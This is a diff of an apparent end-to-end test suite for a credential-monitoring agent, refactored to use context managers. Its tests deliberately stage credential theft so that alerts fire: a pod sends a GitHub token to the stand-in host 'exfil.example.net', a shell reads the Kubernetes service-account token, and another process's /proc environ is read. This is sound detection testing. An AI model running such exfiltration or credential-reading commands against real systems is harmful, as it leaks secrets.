@@ -16,7 +16,8 @@ import tempfile
 import time
 import uuid
 
-from cwtest import BIN, Agent, KeyFile, Skip, github_token, require_root
+from cwtest import (BIN, Agent, Closing, KeyFile, Skip, child_process, github_token, own,
+                    require_root, wait_own)
 from test_tls import TlsServer
 
 NS = "cw-e2e"
@@ -141,8 +142,9 @@ def https_client_script():
             "s.close()\n")
 
 
-class Env:
-    """Three pods, an agent with a private provenance store, and cleanup."""
+class Env(Closing):
+    """Pods, an agent with a private provenance store, and their cleanup: `with Env() as env:`
+    stops the agent and removes the pods when the block ends."""
 
     def __init__(self):
         require_root()
@@ -169,18 +171,6 @@ class Env:
         shutil.rmtree(self.dir, ignore_errors=True)
 
 
-def own(agent, secret, action):
-    fp = agent.key.fingerprint(secret)
-    return [l for l in agent.lines if l["event"]["action"] == action and
-            l["credential"]["fingerprint"] == fp]
-
-
-def wait_own(agent, secret, action, timeout=15):
-    fp = agent.key.fingerprint(secret)
-    return agent.wait_for(lambda l: l["event"]["action"] == action and
-                          l["credential"]["fingerprint"] == fp, timeout=timeout)
-
-
 def inventory(state):
     out = subprocess.run([BIN, "inventory", "--state", state, "--format", "json"],
                          capture_output=True, check=True, timeout=30).stdout.decode()
@@ -188,135 +178,127 @@ def inventory(state):
 
 
 def test_pods_ownership_egress_reader_shared_inventory_restart():
-    env = Env()
-    srv = None
     token = github_token()
     sa = k8s_jwt(NS)
-    try:
+    with Env() as env:
         a, b, c = env.pod("pod-a", sa_token=sa), env.pod("pod-b"), env.pod("pod-c")
         agent = env.start("--events", "--include-loopback")  # the servers are on loopback
-        srv = TlsServer()
+        with TlsServer() as srv:
+            # Pod A loads the token from a watched file (.env) and from its environment.
+            appdir = os.path.join(env.dir, "app")
+            os.makedirs(appdir)
+            with open(os.path.join(appdir, ".env"), "w") as f:
+                f.write(f"APP_NAME=demo\nGITHUB_TOKEN={token}\n")
+            a.run(["cat", os.path.join(appdir, ".env")])
+            assert wait_own(agent, token, "credential-read"), \
+                "pod A's read of its .env file was not seen: " + agent.stderr()[-2000:]
+            a.run(["true"], secret_env="GITHUB_TOKEN", secret=token)
+            assert wait_own(agent, token, "credential-observed")
+            read = own(agent, token, "credential-read")[0]
+            assert read["orchestrator"]["resource"]["name"] == a.name
+            assert read["orchestrator"]["namespace"] == NS
+            assert read["orchestrator"]["resource"]["id"] == a.uid
+            assert read["container"]["id"] == a.cid
+            assert read["container"]["name"] == "app"
+            assert read["container"]["runtime"] == "containerd"
+            assert read["credwatch"]["qos"] == "besteffort"
+            assert read["file"]["path"] == os.path.join(appdir, ".env")
 
-        # Pod A loads the token from a watched file (.env) and from its environment.
-        appdir = os.path.join(env.dir, "app")
-        os.makedirs(appdir)
-        with open(os.path.join(appdir, ".env"), "w") as f:
-            f.write(f"APP_NAME=demo\nGITHUB_TOKEN={token}\n")
-        a.run(["cat", os.path.join(appdir, ".env")])
-        assert wait_own(agent, token, "credential-read"), \
-            "pod A's read of its .env file was not seen: " + agent.stderr()[-2000:]
-        a.run(["true"], secret_env="GITHUB_TOKEN", secret=token)
-        assert wait_own(agent, token, "credential-observed")
-        read = own(agent, token, "credential-read")[0]
-        assert read["orchestrator"]["resource"]["name"] == a.name
-        assert read["orchestrator"]["namespace"] == NS
-        assert read["orchestrator"]["resource"]["id"] == a.uid
-        assert read["container"]["id"] == a.cid
-        assert read["container"]["name"] == "app"
-        assert read["container"]["runtime"] == "containerd"
-        assert read["credwatch"]["qos"] == "besteffort"
-        assert read["file"]["path"] == os.path.join(appdir, ".env")
+            # Pod B sends it over TLS: credential-egress naming both pods.
+            b.run(["python3", "-c", https_client_script(), "exfil.example.net", str(srv.port)],
+                  stdin=token + "\n")
+            hits = wait_own(agent, token, "credential-egress")
+            assert len(hits) == 1, hits
+            e = hits[0]
+            assert e["event"]["kind"] == "alert"
+            assert e["orchestrator"]["resource"]["name"] == b.name
+            assert e["credwatch"]["workload"] == b.workload
+            assert e["credential"]["origin_workload"] == a.workload
+            assert a.workload in e["credential"]["owners"]
+            assert b.workload not in e["credential"]["owners"]
+            assert e["destination"]["port"] == srv.port
+            assert e["destination"]["domain"] == "exfil.example.net"
+            assert e["tls"]["library"] == "openssl"
+            assert e["threat"]["technique"]["id"] == "NHI-02"
 
-        # Pod B sends it over TLS: credential-egress naming both pods.
-        b.run(["python3", "-c", https_client_script(), "exfil.example.net", str(srv.port)],
-              stdin=token + "\n")
-        hits = wait_own(agent, token, "credential-egress")
-        assert len(hits) == 1, hits
-        e = hits[0]
-        assert e["event"]["kind"] == "alert"
-        assert e["orchestrator"]["resource"]["name"] == b.name
-        assert e["credwatch"]["workload"] == b.workload
-        assert e["credential"]["origin_workload"] == a.workload
-        assert a.workload in e["credential"]["owners"]
-        assert b.workload not in e["credential"]["owners"]
-        assert e["destination"]["port"] == srv.port
-        assert e["destination"]["domain"] == "exfil.example.net"
-        assert e["tls"]["library"] == "openssl"
-        assert e["threat"]["technique"]["id"] == "NHI-02"
+            # Pod A sends it to its provider's host: no alert of any kind for pod A.
+            a.run(["python3", "-c", https_client_script(), "api.github.com", str(srv.port)],
+                  secret_env="GITHUB_TOKEN", secret=token)
+            sent = wait_own(agent, token, "credential-sent")
+            assert any(l["credwatch"].get("workload") == a.workload for l in sent), sent
 
-        # Pod A sends it to its provider's host: no alert of any kind for pod A.
-        a.run(["python3", "-c", https_client_script(), "api.github.com", str(srv.port)],
-              secret_env="GITHUB_TOKEN", secret=token)
-        sent = wait_own(agent, token, "credential-sent")
-        assert any(l["credwatch"].get("workload") == a.workload for l in sent), sent
+            # A shell in pod A cats the service-account token: credential-unexpected-reader.
+            a.run(["sh", "-c", f"cat {SA_DIR}/token >/dev/null"])
+            hits = wait_own(agent, sa, "credential-unexpected-reader")
+            assert len(hits) == 1, hits
+            r = hits[0]
+            assert r["process"]["name"] == "cat"
+            assert r["orchestrator"]["resource"]["name"] == a.name
+            assert r["file"]["path"] == "/var/run/secrets/kubernetes.io/serviceaccount/token"
+            assert r["credential"]["kind"] == "kubernetes-service-account-token"
 
-        # A shell in pod A cats the service-account token: credential-unexpected-reader.
-        a.run(["sh", "-c", f"cat {SA_DIR}/token >/dev/null"])
-        hits = wait_own(agent, sa, "credential-unexpected-reader")
-        assert len(hits) == 1, hits
-        r = hits[0]
-        assert r["process"]["name"] == "cat"
-        assert r["orchestrator"]["resource"]["name"] == a.name
-        assert r["file"]["path"] == "/var/run/secrets/kubernetes.io/serviceaccount/token"
-        assert r["credential"]["kind"] == "kubernetes-service-account-token"
+            # The same token loaded in pod C: credential-shared.
+            c.run(["true"], secret_env="GITHUB_TOKEN", secret=token)
+            hits = wait_own(agent, token, "credential-shared")
+            assert len(hits) == 1, hits
+            assert hits[0]["credwatch"]["workload"] == c.workload
+            assert set(hits[0]["credential"]["loaded_by"]) >= {a.workload, c.workload}
+            assert hits[0]["threat"]["technique"]["id"] == "NHI-09"
 
-        # The same token loaded in pod C: credential-shared.
-        c.run(["true"], secret_env="GITHUB_TOKEN", secret=token)
-        hits = wait_own(agent, token, "credential-shared")
-        assert len(hits) == 1, hits
-        assert hits[0]["credwatch"]["workload"] == c.workload
-        assert set(hits[0]["credential"]["loaded_by"]) >= {a.workload, c.workload}
-        assert hits[0]["threat"]["technique"]["id"] == "NHI-09"
+            # Pod C got it in its environment after pod A owned it: a latecomer, not an owner
+            # (else a stolen token passed in an environment would make its thief an owner).
+            c.run(["python3", "-c", https_client_script(), "exfil.example.net", str(srv.port)],
+                  secret_env="GITHUB_TOKEN", secret=token)
+            assert agent.wait_for(lambda l: l["event"]["action"] == "credential-egress" and
+                                  l["credwatch"]["workload"] == c.workload, timeout=15)
 
-        # Pod C got it in its environment after pod A owned it: a latecomer, not an owner
-        # (else a stolen token passed in an environment would make its thief an owner).
-        c.run(["python3", "-c", https_client_script(), "exfil.example.net", str(srv.port)],
-              secret_env="GITHUB_TOKEN", secret=token)
-        assert agent.wait_for(lambda l: l["event"]["action"] == "credential-egress" and
-                              l["credwatch"]["workload"] == c.workload, timeout=15)
+            time.sleep(1.5)  # anything further would be a duplicate or a false alarm
+            assert not [l for l in own(agent, token, "credential-egress")
+                        if l["credwatch"]["workload"] not in (b.workload, c.workload)], \
+                "an owner was flagged"
+            assert not [l for l in own(agent, token, "credential-unexpected-destination")
+                        if l["credwatch"]["workload"] == a.workload], \
+                "the provider's own host was flagged"
+            assert len(own(agent, token, "credential-egress")) == 2
+            assert agent.stop() == 0
+            agent.assert_no_plaintext(token, sa)
 
-        time.sleep(1.5)  # anything further would be a duplicate or a false alarm
-        assert not [l for l in own(agent, token, "credential-egress")
-                    if l["credwatch"]["workload"] not in (b.workload, c.workload)], \
-            "an owner was flagged"
-        assert not [l for l in own(agent, token, "credential-unexpected-destination")
-                    if l["credwatch"]["workload"] == a.workload], \
-            "the provider's own host was flagged"
-        assert len(own(agent, token, "credential-egress")) == 2
-        assert agent.stop() == 0
-        agent.assert_no_plaintext(token, sa)
+            # The inventory lists it: where it lives, who loaded it, who used it.
+            inv = inventory(env.state)
+            fp = env.key.fingerprint(token)
+            mine = [i for i in inv if i["credential"]["fingerprint"] == fp]
+            assert len(mine) == 1, inv
+            item = mine[0]
+            loaders = set(item["loaders"])
+            assert {a.workload, c.workload} <= loaders and b.workload not in loaders
+            srcs = {(o["source"], o["detail"]) for o in item["origins"]}
+            assert ("file", os.path.join(appdir, ".env")) in srcs
+            assert ("env", "GITHUB_TOKEN") in srcs
+            users = {u["workload"] for u in item["users"]}
+            assert {a.workload, b.workload} <= users
+            st = os.stat(env.state)
+            assert st.st_mode & 0o777 == 0o600
+            with open(env.state, "rb") as f:
+                blob = f.read()
+            assert token.encode() not in blob and sa.encode() not in blob
+            table = subprocess.run([BIN, "inventory", "--state", env.state], capture_output=True,
+                                   check=True, timeout=30).stdout
+            assert fp[:16].encode() in table and token.encode() not in table
 
-        # The inventory lists it: where it lives, who loaded it, who used it.
-        inv = inventory(env.state)
-        fp = env.key.fingerprint(token)
-        mine = [i for i in inv if i["credential"]["fingerprint"] == fp]
-        assert len(mine) == 1, inv
-        item = mine[0]
-        loaders = set(item["loaders"])
-        assert {a.workload, c.workload} <= loaders and b.workload not in loaders
-        srcs = {(o["source"], o["detail"]) for o in item["origins"]}
-        assert ("file", os.path.join(appdir, ".env")) in srcs
-        assert ("env", "GITHUB_TOKEN") in srcs
-        users = {u["workload"] for u in item["users"]}
-        assert {a.workload, b.workload} <= users
-        st = os.stat(env.state)
-        assert st.st_mode & 0o777 == 0o600
-        with open(env.state, "rb") as f:
-            blob = f.read()
-        assert token.encode() not in blob and sa.encode() not in blob
-        table = subprocess.run([BIN, "inventory", "--state", env.state], capture_output=True,
-                               check=True, timeout=30).stdout
-        assert fp[:16].encode() in table and token.encode() not in table
-
-        # A restarted agent keeps the provenance: pod B sending it again is still flagged.
-        agent = env.start("--include-loopback")
-        assert "provenance " + env.state + " (" in agent.stderr()
-        b.run(["python3", "-c", https_client_script(), "exfil.example.net", str(srv.port)],
-              stdin=token + "\n")
-        hits = wait_own(agent, token, "credential-egress")
-        assert len(hits) == 1, agent.stderr()[-2000:]
-        assert hits[0]["credential"]["origin_workload"] == a.workload
-        agent.assert_no_plaintext(token, sa)
-    finally:
-        if srv:
-            srv.close()
-        env.close()
+            # A restarted agent keeps the provenance: pod B sending it again is still flagged.
+            agent = env.start("--include-loopback")
+            assert "provenance " + env.state + " (" in agent.stderr()
+            b.run(["python3", "-c", https_client_script(), "exfil.example.net", str(srv.port)],
+                  stdin=token + "\n")
+            hits = wait_own(agent, token, "credential-egress")
+            assert len(hits) == 1, agent.stderr()[-2000:]
+            assert hits[0]["credential"]["origin_workload"] == a.workload
+            agent.assert_no_plaintext(token, sa)
 
 
 def test_policy_reload_keeps_previous_on_error():
     require_root()
-    env = Env()
-    try:
+    with Env() as env:
         pol = os.path.join(env.dir, "policy.yaml")
         with open(pol, "w") as f:
             f.write("watch:\n  - '**/cw-e2e-watched.txt'\n")
@@ -341,16 +323,13 @@ def test_policy_reload_keeps_previous_on_error():
         assert agent.alive()
         agent.stop()
         agent.assert_no_plaintext(token, token2)
-    finally:
-        env.close()
 
 
 def test_untracked_reads_not_captured_and_write_only_ignored():
     """A file that is not watched is never captured; a watched file opened for writing only
     is forgotten at once."""
     require_root()
-    env = Env()
-    try:
+    with Env() as env:
         agent = env.start("--events", "-v")
         token = github_token()
         plain = os.path.join(env.dir, "notes.txt")
@@ -364,8 +343,6 @@ def test_untracked_reads_not_captured_and_write_only_ignored():
         assert not own(agent, token, "credential-read")
         agent.stop()
         assert "watched file opens" in agent.stderr()
-    finally:
-        env.close()
 
 
 def test_hardcoded_file_in_image():
@@ -378,8 +355,7 @@ def test_hardcoded_file_in_image():
 
 
 def _hardcoded(mode):
-    env = Env()
-    try:
+    with Env() as env:
         pod = env.pod("img")
         agent = env.start("-v", "--events", *mode)
         token, vol_token, run_token = github_token(), github_token(), github_token()
@@ -420,8 +396,6 @@ def _hardcoded(mode):
             "a file written at run time is not the image"
         agent.stop()
         agent.assert_no_plaintext(token, vol_token, run_token)
-    finally:
-        env.close()
 
 
 def test_capture_reads_sees_what_was_read_from_a_deleted_file():
@@ -430,8 +404,7 @@ def test_capture_reads_sees_what_was_read_from_a_deleted_file():
     matched, in all three pieces."""
     require_root()
     for mode in ("--capture-reads",):
-        env = Env()
-        try:
+        with Env() as env:
             agent = env.start(*([mode] if mode else []), "--events")
             toks = [github_token() for _ in range(3)]
             path = os.path.join(env.dir, ".env")
@@ -450,45 +423,36 @@ def test_capture_reads_sees_what_was_read_from_a_deleted_file():
                 assert wait_own(agent, t, "credential-read"), (t[:4], agent.stderr()[-1500:])
             agent.stop()
             agent.assert_no_plaintext(*toks)
-        finally:
-            env.close()
 
 
 def test_reading_another_process_environment_is_an_unexpected_reader():
     """`cat /proc/PID/environ` of a process holding a credential in its environment: the
     reader is flagged, the process that holds it is the origin, and the reader does not
     become an owner. A process reading its own environment is nothing."""
-    env = Env()
-    holder = None
-    try:
+    with Env() as env:
         agent = env.start()
         token = github_token()
         e = dict(os.environ, GITHUB_TOKEN=token)
         sleep = shutil.which("sleep")
-        holder = subprocess.Popen([sleep, "30"], env=e)
-        time.sleep(0.3)
-        subprocess.run(["sh", "-c", f"cat /proc/{holder.pid}/environ > /dev/null"], check=True)
-        hits = wait_own(agent, token, "credential-unexpected-reader")
-        assert len(hits) == 1, agent.stderr()[-1500:]
-        h = hits[0]
-        assert h["process"]["name"] == "cat"
-        # cat is gone by the time the agent reports it: its exec event named it
-        assert h["process"]["executable"] == shutil.which("cat")
-        assert h["file"]["path"] == f"/proc/{holder.pid}/environ"
-        assert h["credential"]["origin_workload"] == f"exe:{sleep} uid:0"
-        assert "another process's environment" in h["message"]
-        # its own environment: not a reader of someone else's
-        subprocess.run(["python3", "-c", "open('/proc/self/environ','rb').read()"], env=e,
-                       check=True)
-        time.sleep(1.0)
-        assert len(own(agent, token, "credential-unexpected-reader")) == 1
-        agent.stop()
-        agent.assert_no_plaintext(token)
-    finally:
-        if holder:
-            holder.kill()
-            holder.wait()
-        env.close()
+        with child_process([sleep, "30"], env=e) as holder:
+            time.sleep(0.3)
+            subprocess.run(["sh", "-c", f"cat /proc/{holder.pid}/environ > /dev/null"], check=True)
+            hits = wait_own(agent, token, "credential-unexpected-reader")
+            assert len(hits) == 1, agent.stderr()[-1500:]
+            h = hits[0]
+            assert h["process"]["name"] == "cat"
+            # cat is gone by the time the agent reports it: its exec event named it
+            assert h["process"]["executable"] == shutil.which("cat")
+            assert h["file"]["path"] == f"/proc/{holder.pid}/environ"
+            assert h["credential"]["origin_workload"] == f"exe:{sleep} uid:0"
+            assert "another process's environment" in h["message"]
+            # its own environment: not a reader of someone else's
+            subprocess.run(["python3", "-c", "open('/proc/self/environ','rb').read()"], env=e,
+                           check=True)
+            time.sleep(1.0)
+            assert len(own(agent, token, "credential-unexpected-reader")) == 1
+            agent.stop()
+            agent.assert_no_plaintext(token)
 
 
 def test_relative_open_inside_a_watched_directory():
@@ -496,8 +460,7 @@ def test_relative_open_inside_a_watched_directory():
     matched against the working directory (walked up in the kernel, across the tmpfs mount
     the token lives on, and /var/run -> /run resolved)."""
     sa = k8s_jwt(NS)
-    env = Env()
-    try:
+    with Env() as env:
         pod = env.pod("rel", sa_token=sa)
         agent = env.start()
         pod.run(["sh", "-c", f"cd {SA_DIR} && cat token >/dev/null"])
@@ -507,5 +470,3 @@ def test_relative_open_inside_a_watched_directory():
         assert hits[0]["file"]["path"].endswith("/secrets/kubernetes.io/serviceaccount/token")
         agent.stop()
         agent.assert_no_plaintext(sa)
-    finally:
-        env.close()
